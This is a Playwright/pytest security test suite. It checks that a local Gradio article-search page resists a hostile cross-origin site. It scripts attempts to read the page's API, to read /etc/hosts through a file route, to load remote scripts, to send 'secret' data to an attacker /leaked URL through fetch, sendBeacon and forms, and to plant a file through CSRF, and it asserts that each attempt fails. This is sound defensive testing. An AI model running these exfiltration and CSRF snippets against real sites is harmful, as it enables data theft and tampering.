"""A site that a person visits while the page is open gets nothing in and nothing out.

The other site is served here, at another address and at another port of the page's own; the
person's browser has a session with the page. Each step of an attack is tried as a script would.
"""

from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, sync_playwright

from tests.browser.window import ARGUMENTS, NO_BROWSER, browser_path
from tests.served import Served
from tests.walled.wall import ELSEWHERE, Elsewhere

MARK = "WRITTEN-ELSEWHERE"
# Chromium would itself ask before it lets sites reach this machine: here the page stands alone.
ALONE = "--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessSendPreflights"
SCRIPT = f"window.ran = '{MARK}'; document.title = '{MARK}';"
PAGE = f"<!doctype html><title>Elsewhere</title><p>{MARK}</p><script src='/run.js'></script>"


@pytest.fixture(scope="module")
def elsewhere() -> Elsewhere:
    """Its pages end in .png: Gradio trusts the ending, browsers the type."""
    return Elsewhere(
        {
            "/": ("text/html", PAGE),
            "/page.png": ("text/html", PAGE),
            "/script.png": ("text/javascript", SCRIPT),
            "/run.js": ("text/javascript", SCRIPT),
        }
    )


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    path = browser_path()
    assert path, NO_BROWSER
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=path, args=[*ARGUMENTS, ALONE])
        yield browser
        browser.close()


@pytest.fixture
def visitor(browser: Browser, site: Served) -> Iterator[BrowserContext]:
    """A person's browser that has a session with the page."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(site.url)
    page.locator("#start .examples").wait_for()
    assert [each["name"] for each in context.cookies(site.url)] != []
    page.close()
    yield context
    context.close()


@pytest.fixture(params=[ELSEWHERE, "127.0.0.1", "localhost"])
def attacker(request: pytest.FixtureRequest, elsewhere: Elsewhere) -> str:
    """Another host, another port of the page's own address, and this machine's other name."""
    elsewhere.asked.clear()
    return elsewhere.at(request.param)


@pytest.fixture(autouse=True)
def nothing_changes(site: Served, elsewhere: Elsewhere) -> Iterator[None]:
    """Whatever is tried: no file in the corpus, no build, no request from the page's process."""
    before = _state(site)
    yield
    assert _state(site) == before
    assert [agent for _, agent in elsewhere.asked if "Mozilla" not in agent] == []
    assert not [path for path, _ in elsewhere.asked if "leaked" in path]


def _state(site: Served) -> tuple[Any, ...]:
    files = sorted((path.name, path.read_bytes()) for path in site.corpus.iterdir())
    status = site.call("status")
    return files, status["index_version"], status["last_build"]


def _visit(visitor: BrowserContext, url: str) -> Page:
    page = visitor.new_page()
    page.goto(url)
    return page


def test_the_other_site_works(visitor: BrowserContext, attacker: str) -> None:
    page = _visit(visitor, attacker)
    assert page.evaluate("window.ran") == MARK


@pytest.mark.parametrize("file", ["page.png", "script.png"])
def test_a_link_through_the_page_shows_nothing_of_it(
    visitor: BrowserContext, site: Served, attacker: str, elsewhere: Elsewhere, file: str
) -> None:
    page = _visit(visitor, attacker)
    for path in ("file=", "file/", "proxy="):
        target = f"{site.url}/gradio_api/{path}{attacker}/{file}"
        page.goto(attacker)
        page.evaluate(
            "url => document.body.append(Object.assign(document.createElement('a'),"
            "{href: url, id: 'link', textContent: 'here'}))",
            target,
        )
        elsewhere.asked.clear()
        with page.expect_response(target) as answered:
            page.click("#link")
        assert answered.value.status in (403, 404)
        assert MARK not in page.content()
        assert not [path for path, _ in elsewhere.asked if path.endswith(file)]
        direct = visitor.new_page()  # as if it were typed in
        answer = direct.goto(target)
        assert answer is not None
        assert answer.status == 404
        assert MARK not in direct.content()


def test_its_script_does_not_run_at_the_page_s_address(
    visitor: BrowserContext, site: Served, attacker: str
) -> None:
    page = _visit(visitor, site.url)
    page.evaluate(
        """urls => Promise.all(urls.map(url => new Promise(done => {
            const script = document.createElement('script');
            script.src = url;
            script.onload = script.onerror = done;
            document.head.append(script);
        })))""",
        [
            f"/gradio_api/file={attacker}/script.png",
            f"/gradio_api/proxy={attacker}/script.png",
            f"{attacker}/script.png",
        ],
    )
    assert page.evaluate("window.ran") is None
    assert page.title() != MARK


READS = """async page => {
    const got = {};
    const json = {'Content-Type': 'application/json'};
    const calls = {
        articles: ['/gradio_api/call/v2/articles', {method: 'POST', headers: json, body: '{}'}],
        plain: ['/gradio_api/call/v2/articles', {method: 'POST', body: '{}'}],
        hidden: ['/gradio_api/call/v2/articles', {method: 'POST', mode: 'no-cors', body: '{}'}],
        article: ['/gradio_api/call/v2/article', {method: 'POST', headers: json,
            body: '{"article": "harbin.txt"}'}],
        queue: ['/gradio_api/queue/join', {method: 'POST', headers: json,
            body: '{"data": [], "fn_index": 3, "session_hash": "other"}'}],
        queued: ['/gradio_api/queue/data?session_hash=other', {}],
        config: ['/config', {}],
        info: ['/gradio_api/info', {}],
        session: ['/session', {method: 'POST'}],
        page: ['/', {}],
        script: ['/page/page.js', {}],
        file: ['/gradio_api/file=/etc/hosts', {}],
        plain_ask: ['/api/ask?q=Harbin', {}],
        plain_article: ['/api/article?path=harbin.txt', {mode: 'no-cors'}],
        plain_check: ['/api/check', {method: 'POST', body: '{"draft": "7 ships"}'}],
    };
    for (const [name, [path, options]] of Object.entries(calls)) {
        for (const credentials of ['include', 'omit']) {
            try {
                const answer = await fetch(page + path, {...options, credentials});
                got[name] = `${answer.type} ${answer.status} ${(await answer.text()).slice(0, 80)}`;
            } catch (error) {
                got[name] ??= 'refused';
            }
        }
    }
    for (const [name, tag, path] of [['img', 'img', '/page/icon.svg'],
            ['js', 'script', '/page/page.js'], ['css', 'link', '/page/page.css']]) {
        got[name] = await new Promise(done => {
            const element = document.createElement(tag);
            element.rel = 'stylesheet';
            element.onload = () => done('loaded');
            element.onerror = () => done('refused');
            element[tag === 'link' ? 'href' : 'src'] = page + path;
            document.head.append(element);
        });
    }
    return got;
}"""


def test_it_cannot_read_the_articles(visitor: BrowserContext, site: Served, attacker: str) -> None:
    page = _visit(visitor, attacker)
    got = page.evaluate(READS, site.url)
    assert set(got.values()) == {"refused"}, got


def test_it_cannot_look_through_a_frame_or_a_window(
    visitor: BrowserContext, site: Served, attacker: str
) -> None:
    page = _visit(visitor, attacker)
    page.evaluate(
        """url => new Promise(done => {
            const frame = document.createElement('iframe');
            frame.onload = frame.onerror = done;
            frame.src = url;
            document.body.append(frame);
        })""",
        f"{site.url}/?q=How+many+phones+were+seized+in+Harbin%3F",
    )
    inside = page.frames[-1]
    assert "Harbin" not in inside.content()
    with page.expect_popup() as opened:
        page.evaluate("url => { window.other = window.open(url); }", site.url)
    opened.value.locator("#start .examples").wait_for()  # a link to the page opens it
    read = "() => { try { return window.other.document.title; } catch { return 'refused'; } }"
    assert page.evaluate(read) in ("refused", None)
    assert page.evaluate("window.other.closed")  # to the opener: it has no hold on it


def test_nothing_is_sent_to_it_from_the_page(
    visitor: BrowserContext, site: Served, attacker: str
) -> None:
    page = _visit(visitor, site.url)
    sent = page.evaluate(
        """async ([page, other]) => {
            const leak = `${other}/leaked?text=secret`;
            const got = [];
            for (const url of [leak, `${page}/gradio_api/file=${leak}`,
                    `${page}/gradio_api/proxy=${leak}`, `${page}/gradio_api/file/${leak}`]) {
                try { got.push((await fetch(url)).status); } catch { got.push('refused'); }
                const image = new Image();
                await new Promise(done => {
                    image.onload = image.onerror = done;
                    image.src = url;
                });
            }
            try { navigator.sendBeacon(leak, 'secret'); } catch { got.push('refused'); }
            const form = document.createElement('form');
            form.action = leak;
            form.target = '_blank';
            document.body.append(form);
            form.submit();
            await new Promise(done => setTimeout(done, 300));
            return got;
        }""",
        [site.url, attacker],
    )
    assert sent[:4] == ["refused", 404, 404, 404]


PLANTS = """async ([page, mode]) => {
    const data = new FormData();
    data.append('files', new File(['Planted\\n\\nThe mayor took 9,999 coins.\\n'], 'planted.txt'));
    const got = [];
    const send = async (path, options) => {
        try {
            const answer = await fetch(page + path, {method: 'POST', mode, credentials: 'include',
                ...options});
            got.push(`${answer.type} ${answer.status}`);
            return answer;
        } catch { got.push('refused'); }
    };
    await send('/gradio_api/upload', {body: data});
    for (const name of ['reindex', 'add_articles']) {
        await send(`/gradio_api/call/v2/${name}`, {body: '{}'});
        await send(`/gradio_api/run/${name}`, {body: '{"data": []}'});
    }
    await send('/gradio_api/queue/join',
        {body: '{"data": [], "fn_index": 7, "session_hash": "x"}'});
    const form = document.createElement('form');
    form.method = 'post';
    form.enctype = 'text/plain';
    form.target = '_blank';
    form.action = `${page}/gradio_api/call/v2/reindex`;
    document.body.append(form);
    form.submit();
    return got;
}"""


@pytest.mark.parametrize("mode", ["cors", "no-cors"])
def test_it_cannot_plant_a_file(
    visitor: BrowserContext, site: Served, attacker: str, mode: str
) -> None:
    uploads = site.uploads()
    page = _visit(visitor, attacker)
    got = page.evaluate(PLANTS, [site.url, mode])
    page.wait_for_timeout(500)
    assert set(got) == {"refused"}
    assert site.uploads() == uploads
